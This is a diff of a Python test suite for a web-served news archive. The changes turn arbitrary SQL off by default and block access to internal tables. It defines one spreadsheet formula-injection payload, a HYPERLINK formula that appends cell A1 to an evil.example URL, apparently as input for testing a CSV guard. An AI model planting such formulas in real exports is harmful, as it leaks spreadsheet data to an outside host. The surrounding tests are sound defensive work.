@@ -40,7 +40,7 @@ XSS_URL = "https://www.maghress.com/fr/lesechos/9001"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 QUERIES = config.queries()
 HOOKS = {"prepare_connection", "get_metadata", "canned_queries", "register_routes", "menu_links",
-         "extra_template_vars", "asgi_wrapper"}
+         "extra_template_vars", "asgi_wrapper", "permission_allowed", "handle_exception"}
 
 
 def visible_text(html):
@@ -159,7 +159,9 @@ def test_serve_passes_the_settings_and_nothing_else(db):
         "sql_time_limit_ms": "3000", "max_returned_rows": "1000", "default_allow_sql": "off",
         "facet_time_limit_ms": "500", "default_facet_size": "20", "allow_csv_stream": "on", "max_csv_mb": "100"}
     assert serve_args(db, "0.0.0.0", 80, immutable=True)[:3] == ["serve", "-i", str(db)]
-    on = serve_args(db, "h", 1)
+    default = serve_args(db, "h", 1)
+    assert default[default.index("default_allow_sql") + 1] == "off"  # arbitrary SQL off unless asked for
+    on = serve_args(db, "h", 1, allow_sql=True)
     assert on[on.index("default_allow_sql") + 1] == "on"
 
 
@@ -413,7 +415,7 @@ def test_unknown_article_is_404(db):
 # --- canned queries: each runs once on an empty archive and once on the bundled one -------------------------------
 def test_the_canned_queries_are_listed_for_the_archive(db):
     listed = {q["name"]: q for q in rows(db, "/archive.json")["queries"]}
-    assert set(listed) == set(QUERIES) and len(QUERIES) == 19
+    assert set(listed) == set(QUERIES) and len(QUERIES) == 18
     assert all(listed[name]["title"] == QUERIES[name]["title"] for name in QUERIES)
     html = fetch(db, "/archive").text
     assert all(f'href="/archive/{name}"' in html for name in QUERIES)
@@ -518,8 +520,6 @@ def test_crawl_health_and_failures(db):
     assert reasons[("skipped", "not_in_mirror")]["urls"] == sum(
         json.loads(c["skipped"]).get("not_in_mirror", 0) for c in crawls.values())
     assert reasons[("skipped", "robots_forbidden")]["crawls"] == 2
-    failing = rows(db, "/archive/failing_urls.json?_shape=array")
-    assert {"robots_forbidden", "not_in_mirror"} == {r["reason"] for r in failing}
     volume = rows(db, "/archive/crawl_volume.json?_shape=array")
     assert [(r["crawl"], r["pages"]) for r in volume] == [(n, crawls[n]["pages_fetched"]) for n in (2, 1)]
 
@@ -560,16 +560,21 @@ def test_charts_page(db, empty):
 
 
 # --- public defaults -------------------------------------------------------------------------------------------------
-def test_internal_tables_are_hidden_but_readable(db):
+def test_internal_tables_are_not_served(db):
+    """Not listed, no table page (403), with arbitrary SQL on or off; SQL on them:
+    tests/test_serve_safety.py."""
     tables = {t["name"]: t["hidden"] for t in rows(db, "/archive.json")["tables"]}
-    for name in ("captures", "urls", "group_signatures", "search_fts", "search_fts_data", "_sqlite_migrations"):
-        assert tables[name] is True, name
-    for name in ("articles", "headlines", "headline_sightings", "article_versions", "crawls", "article_groups", "stories"):
-        assert tables[name] is False, name
-    assert "articles_fts" not in tables and "headlines_fts" not in tables
+    assert set(tables) == {"articles", "headlines", "headline_sightings", "article_versions", "crawls",
+                           "article_groups", "stories"}
+    assert not any(tables.values())
     listed = visible_text(fetch(db, "/").text).split("Databases", 1)[1]
     assert "captures" not in listed and "urls" not in listed
-    assert fetch(db, "/archive/captures.json").status_code == 200
+    for allow_sql in (False, True):
+        pages = fetch(db, "/archive/captures.json", "/archive/urls", "/archive/group_signatures.csv",
+                      "/archive/_sqlite_migrations", "/archive/search_fts", "/archive/search_fts_data",
+                      "/archive/urls/1.json", allow_sql=allow_sql)
+        assert [p.status_code for p in pages] == [403] * 7
+        assert all("You do not have permission to view this table" in p.text for p in pages)
 
 
 def test_stored_text_is_escaped_everywhere(extra):
@@ -604,14 +609,15 @@ def test_csv_guard_streams_records_split_anywhere():
 
 
 def test_settings_limit_time_and_rows(db):
-    settings = rows(db, "/-/settings.json")
-    assert (settings["sql_time_limit_ms"], settings["max_returned_rows"], settings["default_allow_sql"]) == (3000, 1000, True)
+    assert config.settings()["default_allow_sql"] is False  # arbitrary SQL off unless asked for
+    settings = rows(db, "/-/settings.json", allow_sql=False)
+    assert (settings["sql_time_limit_ms"], settings["max_returned_rows"], settings["default_allow_sql"]) == (3000, 1000, False)
     assert (settings["facet_time_limit_ms"], settings["allow_csv_stream"], settings["max_csv_mb"]) == (500, True, 100)
     assert "settings" not in rows(db, "/-/metadata.json")
 
 
 def test_arbitrary_sql_can_be_switched_off(db):
-    on = fetch(db, "/archive.json?sql=select+count(*)+from+articles")
+    on = fetch(db, "/archive.json?sql=select+count(*)+from+articles", allow_sql=True)
     assert on.status_code == 200
     off = fetch(db, "/archive.json?sql=select+1", "/archive/latest_headlines.json", "/-/search?q=metropole",
                 "/-/article?url=" + SEED_URL, "/-/charts", "/archive/search.json?q=metropole", allow_sql=False)
@@ -663,7 +669,7 @@ def test_an_archive_lacking_migrations_says_so(tmp_path):
     migrations.apply(archive.db, stop_before="m006_one_search_index")
     archive.close()
     search_page, queries, home = fetch(path, "/-/search?q=metropole", "/old.json", "/")
-    assert search_page.status_code == 500
+    assert search_page.status_code == 503
     assert "The archive old lacks the schema migrations m006_one_search_index" in unescape(search_page.text)
     assert {q["name"] for q in queries.json()["queries"]} == set(QUERIES)  # still an archive
     assert home.status_code == 200 and "This archive holds" not in home.text
